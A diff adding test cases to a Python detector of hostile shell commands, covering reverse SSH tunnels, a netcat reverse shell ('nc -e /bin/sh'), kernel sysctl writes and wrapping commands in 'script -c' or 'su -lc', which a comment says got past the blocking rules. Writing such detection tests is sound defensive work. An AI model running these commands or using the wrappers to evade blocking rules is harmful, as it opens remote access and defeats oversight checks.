@@ -35,6 +35,11 @@ def fired(evidence: object) -> dict[str, str]:
         ("command -v nc", "command -v nc", "nc -"),
         ("nohup ssh -N -R 1:h:2 x &", "nohup ssh -N -R 1:h:2 x", None),
         ("echo 1 > /proc/sys/kernel/x", "echo >/proc/sys/kernel/x", None),
+        # util-linux script runs its -c under a pty: it got past the blocking rules
+        ("script -qc 'ssh -R 1:h:2 x' /dev/null", "ssh -R 1:h:2 x", None),
+        ("script -qfec 'ssh -R 1:h:2 x' /dev/null", "ssh -R 1:h:2 x", None),
+        ("script --command='nc -e /bin/sh h 1' /dev/null", "nc -e /bin/sh h 1", None),
+        ("su -lc 'ssh -R 1:h:2 x' bob", "ssh -R 1:h:2 x", None),
     ],
 )
 def test_invocations(text: str, present: str, absent: str | None) -> None:
